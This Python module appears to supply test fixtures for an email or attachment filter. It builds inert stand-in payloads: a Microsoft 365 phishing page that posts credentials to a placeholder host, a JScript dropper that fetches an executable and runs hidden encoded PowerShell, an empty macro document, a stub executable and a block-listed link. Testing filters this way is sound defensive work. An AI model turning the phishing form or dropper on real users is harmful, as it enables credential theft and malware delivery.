"""The payloads of an attacker: five files, and a harmless file as their control.

Every payload is a stand-in: the program does nothing, the macro is empty, the script only looks like one, and the page
sends nothing.
"""

import io
import struct
import zipfile
from dataclasses import dataclass

LISTED_HOST = "listed-link.example.com"  # on the tenant's url-block list
LISTED_URL = f"https://{LISTED_HOST}/verify?u=bob"
BLOCKED_ENDING = ".xyz"  # on the tenant's attachment-block list


@dataclass(frozen=True, slots=True)
class Payload:
    """A file: its kind, its name, its content and its declared media type."""

    kind: str
    name: str
    content: bytes
    media_type: str = "application/octet-stream"


PHISHING_PAGE = (
    b"<!DOCTYPE html><html><head><title>Sign in to your account</title></head><body>"
    b"<h1>Microsoft 365</h1><p>Your password expires today. Sign in to keep your mailbox.</p>"
    b'<form method="post" action="https://collect.stranger.example/take.php">'
    b'<input type="email" name="user" value="bob@company.example"><input type="password" name="pass">'
    b'<button type="submit">Sign in</button></form></body></html>'
)
LINK_PAGE = f'<html><body><p>The minutes are <a href="{LISTED_URL}">here</a>.</p></body></html>'.encode()
SCRIPT = (
    b'var shell = new ActiveXObject("WScript.Shell");\r\n'
    b'var http = new ActiveXObject("MSXML2.XMLHTTP");\r\n'
    b'http.open("GET", "http://files.stranger.example/a.exe", false);\r\nhttp.send();\r\n'
    b'shell.Run("powershell -nop -w hidden -enc AAAA");\r\n'
)


def program() -> bytes:
    """Return a Windows program that ends at once: a DOS stub, a PE header and one empty section."""
    dos = b"MZ" + b"\0" * 58 + struct.pack("<I", 64)
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
    optional = struct.pack("<HBB", 0x10B, 9, 0) + b"\0" * 220
    section = b".text\0\0\0" + b"\0" * 32
    return dos + coff + optional + section + b"\xc3" * 512


def macro_document(project: str = "word/vbaProject.bin") -> bytes:
    """Return a Word document with an (empty) macro project."""
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    root = f'<Relationships xmlns="{relations}"><Relationship Id="r1" Type="{office}/officeDocument" Target="word/document.xml"/></Relationships>'
    macros = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    target = project.removeprefix("word/")
    inner = (
        f'<Relationships xmlns="{relations}"><Relationship Id="r2" Type="{macros}" Target="{target}"/></Relationships>'
    )
    return zip_of(
        {
            "[Content_Types].xml": types.encode(),
            "_rels/.rels": root.encode(),
            "word/document.xml": b"<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'/>",
            "word/_rels/document.xml.rels": inner.encode(),
            project: vba_project(),
        }
    )


def vba_project() -> bytes:
    """Return the beginning of a compound file with the directory names of a macro project."""
    head = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9)
    head = head.ljust(512, b"\0")
    names = b"".join(
        name.encode("utf-16-le").ljust(128, b"\0") for name in ("Root Entry", "VBA", "dir", "_VBA_PROJECT")
    )
    return head + names + b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nEnd Sub\r\n'


def zip_of(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 5, 10, 0, 0)), content, method)
    return buffer.getvalue()


PAGE = Payload("page", "invoice.html", PHISHING_PAGE, "text/html")
LINK = Payload("link", "minutes.html", LINK_PAGE, "text/html")
PROGRAM = Payload("program", "setup.exe", program())
MACRO = Payload("macro", "report.docm", macro_document(), "application/vnd.ms-word.document.macroEnabled.12")
SCRIPTED = Payload("script", "invoice.js", SCRIPT, "application/javascript")
LISTED_FILE = Payload("listed", f"data{BLOCKED_ENDING}", b"plain data of our own\r\n" * 20)

PAYLOADS = (PAGE, LINK, PROGRAM, MACRO, SCRIPTED, LISTED_FILE)
HARMLESS = Payload("harmless", "minutes.txt", b"The minutes of Thursday, as agreed.\r\n" * 5, "text/plain")
